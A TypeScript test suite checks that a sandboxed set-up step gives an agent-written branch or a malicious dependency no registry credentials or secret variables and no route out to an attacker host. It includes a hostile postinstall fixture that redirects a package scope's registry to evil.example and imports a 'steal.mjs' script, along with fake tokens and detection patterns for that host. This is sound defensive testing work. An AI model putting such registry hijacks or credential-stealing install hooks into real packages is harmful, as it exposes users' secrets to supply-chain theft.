/**
 * Set-up of what an agent wrote: no credentials, no host that its branch names, nothing left for a later set-up. And what
 * the set-up of a person's own code leaves: verified downloads, no programs and no settings.
 */
import { describe, expect, it } from 'vitest';

import { usersHere } from '../../kit/probed-person.ts';
import { HOSTILE_BRANCH, NPM_CI, setUpWorld, type SetUpWorld } from '../../kit/set-up-world.ts';

/** One host is allowed in set-up: what arrives there shows that the attack ran, and what it found. */
const ALLOWED = 'network: { setup: [registries, allowed.example] }';
const WORKSPACE = `workspace: { isolation: sandbox, setup: ["${NPM_CI}"], checks: ["true"] }\n`;
const SET_UP = `${WORKSPACE}permissions: { ${ALLOWED} }\n`;
/** Goes on to look for programs and settings that others left. */
const LATER = `workspace: { isolation: sandbox, setup: ["${NPM_CI}", "node tools.mjs"] }\n`;

/** A run whose agent leaves the attack on its branch; gives the branch. */
async function hostileBranch(world: SetUpWorld): Promise<string> {
  world.routine('tidy', HOSTILE_BRANCH, SET_UP);
  const { view } = await world.run('tidy');
  expect([view.result?.execution, view.isolation]).toEqual(['succeeded', 'sandbox']);
  expect(world.sent()).toBe('');
  return view.branch ?? '';
}

/**
 * The attack ran; it sent nothing to the host that the branch names, and no secret anywhere; nothing waits for a later
 * set-up.
 */
async function expectNothingTaken(world: SetUpWorld, secrets = [world.token]): Promise<void> {
  expect(world.sent()).toMatch(/^http:..allowed[.]example/m);
  for (const secret of secrets) expect(world.sent()).not.toContain(secret);
  expect(world.sent()).not.toMatch(/^(CONNECT |http:..)evil[.]example/m);
  world.routine('later', 'true', LATER);
  const { view, log } = await world.run('later');
  expect(view.failure).toBeNull();
  expect(log).toContain('tools are done');
  expect(log).not.toContain('planted');
}

describe.each(usersHere())(
  'a branch that an agent wrote, for $name',
  { timeout: 600_000 },
  (user) => {
    it('has nothing to take when a union of it is set up, and leaves nothing', async () => {
      const world = await setUpWorld(user);
      const branch = await hostileBranch(world);
      const asked = world.asked.length;
      const union = await world.workspace.ask('review', 'union', branch, '--json');
      expect(JSON.parse(union.stdout)).toMatchObject({
        state: { kind: 'passed' },
        isolation: 'sandbox',
      });
      // The private package came from what trusted set-ups downloaded.
      expect(world.asked.slice(asked)).toEqual([]);
      await expectNothingTaken(world);
    });

    it('has nothing to take when it is served', async () => {
      const world = await setUpWorld(user);
      const branch = await hostileBranch(world);
      const served = await world.workspace.ask('review', 'serve', branch, '--command', 'exit 3');
      expect(served.exitCode).not.toBe(0);
      await expectNothingTaken(world);
    });

    it('has nothing to take when a run begins from it by workspace.base', async () => {
      const world = await setUpWorld(user);
      const branch = await hostileBranch(world);
      world.routine('onward', 'true', SET_UP.replace('{', `{ base: "${branch}",`));
      const { view } = await world.run('onward');
      expect([view.result?.execution, view.isolation]).toEqual(['succeeded', 'sandbox']);
      const again = await world.workspace.ask('replay', view.id, '--same', '--json');
      expect(JSON.parse(again.stdout)).toMatchObject({ result: { execution: 'succeeded' } });
      await expectNothingTaken(world);
      expect(view.notices.join('\n')).toContain(
        "Set-up ran an agent's code, so it got no registry credentials.",
      );
    });

    it('has nothing to take when a follow-up run continues from it in a fresh worktree', async () => {
      const world = await setUpWorld(user);
      world.routine('tidy', HOSTILE_BRANCH, SET_UP.replace('{', '{ keep: { success: 0s },'));
      const { view } = await world.run('tidy');
      expect(view.branch).not.toBeNull();
      const branch = view.branch ?? '';
      await world.workspace.ask('review', 'comment', branch, 'package.json:1', 'Continue with it.');
      const sent = await world.workspace.ask('review', 'send', branch, '--json');
      expect(sent.exitCode).toBe(0);
      await expectNothingTaken(world);
    });

    it('gets no variable that is named like a secret or holds one, and no included settings of package tools', async () => {
      const env = {
        PUBLISH_TOKEN: 'publish-0123456789abcdef',
        DATABASE_URL: 'postgres://ci:database-0123456789@db.example/app',
        PLAIN: '/plain/value',
      };
      const secrets = [env.PUBLISH_TOKEN, env.DATABASE_URL, 'included-0123456789abcdef'];
      const world = await setUpWorld(user, {
        env,
        files: { '.gitignore': 'node_modules\n/config\n' },
      });
      const rules = `permissions: { env: [PUBLISH_TOKEN, DATABASE_URL, PLAIN], ${ALLOWED} }\n`;
      const setUp = WORKSPACE.replace('{', '{ include: ["config/.npmrc"],');
      world.repo.write('config/.npmrc', `//registry.example/:_authToken=${secrets[2]}\n`);
      world.routine('tidy', HOSTILE_BRANCH, `${setUp}${rules}`);
      const { view } = await world.run('tidy');
      expect(view.branch).not.toBeNull();
      await world.workspace.ask('review', 'union', view.branch ?? '', '--json');
      expect(world.sent()).toContain('/plain/value');
      await expectNothingTaken(world, [world.token, ...secrets]);
    });
  },
);

describe.each(usersHere())(
  'a dependency of a person’s own code, for $name',
  { timeout: 600_000 },
  (user) => {
    it('opens no host between two commands of a set-up by settings that it writes', async () => {
      const postinstall = [
        `import { writeFileSync } from 'node:fs';`,
        `writeFileSync(process.env.INIT_CWD + '/.npmrc', '@evil:registry=http://evil.example/\\n');`,
        `await import('./steal.mjs');`,
      ].join('\n');
      const world = await setUpWorld(user, { postinstall });
      const commands = `setup: ["${NPM_CI}", "npm rebuild"]`;
      world.routine('plain', 'true', `workspace: { isolation: sandbox, ${commands} }\n`);
      const { view } = await world.run('plain');
      expect(view.result?.execution).toBe('succeeded');
      expect(view.denied.map(({ target }) => target)).toContain('evil.example:80');
      expect(world.sent()).toBe('');
    });

    it('leaves no program and no setting for a later run, and its downloads are found there', async () => {
      const world = await setUpWorld(user, { postinstall: `await import('./steal.mjs');` });
      world.routine('plain', 'true', SET_UP);
      expect((await world.run('plain')).view.failure).toBeNull();
      const asked = world.asked.length;
      expect(world.asked).toEqual(['/tiny/-/tiny-1.0.0.tgz with the token']);
      world.routine('later', 'true', LATER.replace(NPM_CI, `${NPM_CI} --ignore-scripts`));
      const { view, log } = await world.run('later');
      expect(view.failure).toBeNull();
      expect(log).toContain('tools are done');
      expect(log).not.toContain('planted');
      expect(world.asked.slice(asked)).toEqual([]);
    });
  },
);
